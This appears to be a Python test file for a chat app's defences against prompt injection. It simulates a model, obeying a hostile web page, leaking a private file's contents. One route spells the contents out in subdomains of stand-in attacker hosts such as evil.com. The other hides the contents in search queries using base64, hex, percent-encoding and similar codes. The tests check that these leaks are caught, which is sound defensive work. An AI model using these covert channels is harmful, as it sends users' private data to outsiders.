"""A model that obeys a hostile page tries to spell a private file in addresses and queries, and does not get far."""

import base64
import random
from urllib.parse import quote

import pytest

from desktop.chat.disclosure import gives_away
from desktop.domain.sources import Ledger, Passage, SourceKind
from tests.unit.chat.turn.test_tools import reads_of

pytestmark = pytest.mark.anyio

OWNERS = ("evil.com", "evil.co.uk", "evil.com.cn", "evil.github.io", "evil.org.uk")
SYLLABLES = ("vel", "mor", "an", "dri", "qua", "ter", "zu", "lin", "bek", "sor")
CODES = (
    lambda text: text,
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    lambda text: base64.b32encode(text.encode()).decode(),
    lambda text: text.encode().hex(),
    lambda text: (
        quote(text, safe="") if not text.isalnum() else "".join(f"%{ord(each):02X}" for each in text)
    ),
    lambda text: text[::-1],
    " ".join,
    ".".join,
)


async def test_no_page_spells_a_file_by_the_names_of_its_hosts(times, told):
    chance, rounds = random.Random(20), times(20, 2_000)
    for _ in range(rounds):
        owner, length = chance.choice(OWNERS), chance.randint(4, 12)
        secret = "".join(chance.choices("0123456789", k=length))
        listed = [f"https://x{place}-{digit}.{owner}/" for place in range(length) for digit in range(10)]
        ledger = Ledger()
        ledger.register([Passage(SourceKind.WEB, "a", " ".join(listed), url="https://e.org/")])
        reads = await reads_of(ledger)
        opened = [
            reads.asks({"url": f"https://x{place}-{digit}.{owner}/"}) for place, digit in enumerate(secret)
        ]
        assert opened.count(False) == 3
    told("Files spelled in the names of hosts", rounds, "asks before the fourth address of one owner")


def test_no_query_carries_what_only_a_file_holds(times, told):
    chance, rounds = random.Random(21), times(200, 20_000)
    for _ in range(rounds):
        number = "".join(chance.choices("123456789", k=chance.randint(5, 10)))
        word = "".join(chance.sample(SYLLABLES, 3)).capitalize()
        ledger = Ledger()
        ledger.register([Passage(SourceKind.FILE, "a.txt", f"{word} opens it with {number}.", document="d")])
        hidden = chance.choice((number, word))
        for code in chance.sample(CODES, chance.randint(1, 2)):
            hidden = code(hidden)
        query = f"weather {hidden} today"
        assert gives_away([query], ledger.sources, ["How is the weather today?"]), query
    told("Words and numbers of files in queries, in up to two codes", rounds, "asked about each time")
